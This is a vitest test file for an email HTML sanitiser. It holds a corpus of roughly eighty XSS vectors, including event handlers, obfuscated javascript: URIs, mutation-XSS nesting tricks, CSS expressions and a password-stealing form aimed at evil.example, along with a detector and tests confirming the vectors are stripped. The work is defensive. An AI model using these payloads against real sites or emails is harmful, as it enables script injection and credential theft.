import { describe, expect, it } from "vitest";
import { createGenerator } from "../../../src/worker/generation/index";
import { sanitizeEmailHtml } from "../../../src/worker/generation/editor";
import { validateEmailHtml } from "../../../src/worker/generation/validate";
import { decodeEntities } from "../../../src/worker/generation/sanitize";
import { sampleInput } from "../../fixtures/samples";
import { startTags } from "../../../src/worker/generation/validate";

const OWN: [string, string][] = [
  ["script tag", `<p>hi</p><script>alert(1)</script>`],
  ["script with src", `<script src="https://evil.example/x.js"></script><p>ok</p>`],
  ["uppercase script", `<SCRIPT>alert(1)</SCRIPT>`],
  ["img onerror", `<img src=x onerror=alert(1) alt="a">`],
  ["svg onload", `<svg onload=alert(1)><circle r="5"/></svg>`],
  ["svg inner script", `<svg><script>alert(1)</script></svg>`],
  ["body onload", `<body onload="alert(1)"><p>x</p></body>`],
  ["javascript href", `<a href="javascript:alert(1)">Open</a>`],
  ["entity-encoded javascript", `<a href="&#106;avascript:alert(1)">Open</a>`],
  ["hex entity without semicolon", `<a href="&#x6A&#x61&#x76&#x61script:alert(1)">Open</a>`],
  ["named colon entity", `<a href="javascript&colon;alert(1)">Open</a>`],
  ["tab inside scheme", `<a href="jav&#x09;ascript:alert(1)">Open</a>`],
  ["newline and spaces before scheme", `<a href="  \n javascript:alert(1)">Open</a>`],
  ["vbscript", `<a href="vbscript:msgbox(1)">Open</a>`],
  ["data html link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open</a>`],
  ["data svg image", `<img alt="x" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["iframe", `<iframe src="https://evil.example"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  ["object", `<object data="evil.swf"></object>`],
  ["embed", `<embed src="evil.swf">`],
  ["form", `<form action="https://evil.example/steal"><input name="password"><button>Login</button></form>`],
  ["formaction", `<button formaction="javascript:alert(1)">x</button>`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`],
  ["base href", `<base href="https://evil.example/"><a href="/x">Link</a>`],
  ["external stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ["link import", `<link rel="import" href="https://evil.example/x.html">`],
  ["style expression", `<div style="width: expression(alert(1))">x</div>`],
  ["style javascript url", `<div style="background:url(javascript:alert(1))">x</div>`],
  ["style escaped url", `<div style="background:u\\72l(javascript:alert(1))">x</div>`],
  ["style behavior", `<div style="behavior:url(x.htc)">x</div>`],
  ["stylesheet import", `<style>@import url("https://evil.example/x.css"); p{color:red}</style>`],
  ["stylesheet breakout", `<style>p{color:red}</style><style>a{background:url(javascript:alert(1))}</style>`],
  ["moz-binding", `<style>p{-moz-binding:url(https://evil.example/x.xml#x)}</style>`],
  ["comment with script for IE", `<!--[if IE]><script>alert(1)</script><![endif]-->`],
  ["conditional with onerror", `<!--[if mso]><img src=x onerror=alert(1)><![endif]-->`],
  ["plain comment", `<!-- <script>alert(1)</script> -->`],
  ["noscript mxss", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
  [
    "math mxss",
    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  ],
  ["template", `<template><img src=x onerror=alert(1)></template>`],
  ["textarea breakout", `<textarea></textarea><img src=x onerror=alert(1)></textarea>`],
  ["xlink href", `<a xlink:href="javascript:alert(1)">x</a>`],
  ["srcset", `<img alt="x" srcset="javascript:alert(1) 1x" src="https://cdn.example/a.png">`],
  ["video poster", `<video poster="javascript:alert(1)"><source src="x"></video>`],
  ["unquoted event", `<p onclick=alert(1)>x</p>`],
  ["event with slash separator", `<img/src="x"/onerror="alert(1)" alt="x">`],
  ["details ontoggle", `<details open ontoggle=alert(1)>x</details>`],
  [
    "background attribute",
    `<table role="presentation"><tr><td background="javascript:alert(1)">x</td></tr></table>`,
  ],
  ["portal", `<portal src="https://evil.example"></portal>`],
  ["double-encoded", `<a href="&amp;#106;avascript:alert(1)">Open</a>`],
];

/**
 * Vectors after the categories of maintained sanitisers' own suites (DOMPurify's test/fixtures/expect.mjs, the OWASP
 * XSS filter evasion cheat sheet): scheme obfuscation, mutation XSS through raw-text and foreign content, comment and
 * attribute-boundary tricks. Written out here in our words; each must leave nothing executable.
 */
const MAINTAINED: [string, string][] = [
  ["LS before scheme", `<a href="\u2028javascript:alert(1)">x</a>`],
  ["PS before scheme", `<a href="\u2029javascript:alert(1)">x</a>`],
  ["nbsp entity before scheme", `<a href="&#xA0javascript:alert(1)">x</a>`],
  ["ogham space before scheme", `<a href="&#x1680;javascript:alert(1)">x</a>`],
  ["ideographic space before scheme", `<a href="&#x3000;javascript:alert(1)">x</a>`],
  ["low ASCII inside scheme", `<a href="\u0001java\u0003script:alert(1)">x</a>`],
  ["img javascript src", `<img src='javascript:while(1){}' alt="x">`],
  ["data link", `<a href=data:,evilnastystuff>clickme</a>`],
  [
    "listing mXSS",
    `<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing><img src=x onerror=alert(1)>`,
  ],
  ["textarea then comment", `<textarea>a</textarea><!--</textarea><img src=x onerror=alert(1)>-->`],
  ["noscript closed in comment", `<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>`],
  [
    "noscript closed in attribute",
    `<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  ],
  [
    "nested templates",
    `<template><s><template><s><img src=x onerror=alert(1)>x</s></template></s></template>`,
  ],
  [
    "style in broken option",
    `\u0001<option><style></option></select><b><img src=x onerror=alert(1)></style></option>`,
  ],
  ["iframe in option", `<option><iframe></select><b><script>alert(1)</script></iframe></option>`],
  ["style self-closing trick", `<b><style><style/><img src=x onerror=alert(1)></style></b>`],
  ["style many slashes", `<b><style><style////><img src=x onerror=alert(1)></style>`],
  [
    "svg foreignObject",
    `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  ],
  [
    "math annotation",
    `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  ],
  [
    "svg animate href",
    `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`,
  ],
  ["svg use data", `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>`],
  ["body onpageshow", `<body onpageshow=alert(1)>`],
  ["marquee onstart", `<marquee onstart=alert(1)>x</marquee>`],
  ["uppercase event", `<IMG SRC=x ONERROR=alert(1) alt="x">`],
  ["tab in event separator", `<img\tsrc=x\tonerror=alert(1) alt="x">`],
  ["entity in style url", `<div style="background:&#117;rl(javascript:alert(1))">x</div>`],
  [
    "meta refresh data",
    `<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">`,
  ],
  ["conditional comment script", `<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`],
  ["downlevel-revealed script", `<![if !IE]><script>alert(1)</script><![endif]>`],
];

function executableParts(html: string): string[] {
  const found: string[] = [];
  for (const tag of startTags(html)) {
    if (
      [
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "base",
        "svg",
        "math",
        "input",
        "button",
        "template",
        "noscript",
        "textarea",
        "portal",
        "video",
      ].includes(tag.name)
    )
      found.push(`<${tag.name}>`);
    if (tag.name === "meta" && /refresh/i.test(tag.attrs.get("http-equiv") ?? "")) found.push("meta refresh");
    if (tag.name === "link" && !/^https:\/\/fonts\.googleapis\.com\//.test(tag.attrs.get("href") ?? ""))
      found.push("external link");
    for (const [name, value] of tag.attrs) {
      if (name.startsWith("on")) found.push(`${name} handler`);
      if (["formaction", "srcset", "xlink:href", "srcdoc", "poster"].includes(name)) found.push(name);
      // Browsers skip control characters in a URL scheme.
      const decoded = decodeEntities(value)
        // eslint-disable-next-line no-control-regex
        .replace(/[\s\u0000-\u001f]/g, "")
        .toLowerCase();
      if (
        ["href", "src", "background", "action"].includes(name) &&
        /^(javascript|vbscript|data|livescript):/.test(decoded)
      )
        found.push(`${name}=${decoded.slice(0, 20)}`);
      if (
        name === "style" &&
        /expression\(|javascript:|behavior|binding|url\((?!https)/.test(decoded.replace(/\\/g, ""))
      )
        found.push(`style ${decoded.slice(0, 30)}`);
    }
  }
  const css = [...html.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/gi)].map((m) => m[1]).join("");
  if (/@import|expression\(|javascript:|behavior|-moz-binding/i.test(css)) found.push("dangerous css");
  for (const m of html.matchAll(/<!--([\s\S]*?)-->/g))
    if (/script|onerror|javascript/i.test(m[1])) found.push("dangerous comment");
  return found;
}

const HOSTILE: [string, string][] = [...OWN, ...MAINTAINED];

describe("sanitizeEmailHtml", () => {
  it(`has a corpus of at least 25 hostile samples (${HOSTILE.length})`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(25);
  });

  it("the checker itself spots every raw sample", () => {
    for (const [name, html] of HOSTILE) expect(executableParts(html), name).not.toEqual([]);
  });

  it.each(HOSTILE)("leaves nothing executable: %s", async (_name, html) => {
    const clean = await sanitizeEmailHtml(
      `<!DOCTYPE html><html lang="en"><head><title>t</title></head><body>${html}<p>after</p></body></html>`,
    );
    expect(executableParts(clean)).toEqual([]);
    expect(clean).toContain("<p>after</p>");
  });

  it("keeps safe links, mailto, merge tags, images and text content", async () => {
    const clean = await sanitizeEmailHtml(
      `<p class="x" style="color:#333;font-family:Arial, sans-serif">Hello <strong>there</strong></p><a href="https://example.com/a?b=1&amp;c=2" target="_blank">Visit example.com</a><a href="mailto:hi@example.com">Email us</a><a href="{{unsubscribe_url}}">Unsubscribe</a><img src="https://cdn.example/logo.png" alt="Logo" width="120">`,
    );
    expect(clean).toContain(
      `<p class="x" style="color:#333;font-family:Arial, sans-serif">Hello <strong>there</strong></p>`,
    );
    expect(clean).toContain(`href="https://example.com/a?b=1&amp;c=2"`);
    expect(clean).toContain(`rel="noopener noreferrer"`);
    expect(clean).toContain(`href="mailto:hi@example.com"`);
    expect(clean).toContain(`href="{{unsubscribe_url}}"`);
    expect(clean).toContain(`<img src="https://cdn.example/logo.png" alt="Logo" width="120">`);
  });

  it("drops only the dangerous declaration from a style attribute", async () => {
    const clean = await sanitizeEmailHtml(
      `<div style="color:red;background:url(javascript:alert(1));padding:4px">x</div>`,
    );
    expect(clean).toContain(`style="color:red;padding:4px"`);
  });

  it.each([1, 2, 3])("keeps a generated template intact and valid (seed %i)", async (seed) => {
    for (const type of ["newsletter", "webinar", "transactional-purchase"] as const) {
      const t = await createGenerator({}).generate({
        ...sampleInput(type, seed),
        logoUrl: "https://cdn.brandmail.example/l/x.png",
      });
      const clean = await sanitizeEmailHtml(t.html);
      expect(validateEmailHtml(clean)).toEqual({ ok: true, problems: [] });
      expect(clean).toContain("v:roundrect");
      expect(clean).toContain("prefers-color-scheme:dark");
      expect(clean).toContain("[data-ogsc]");
      expect(clean.length).toBeGreaterThan(t.html.length * 0.97);
    }
  });
});
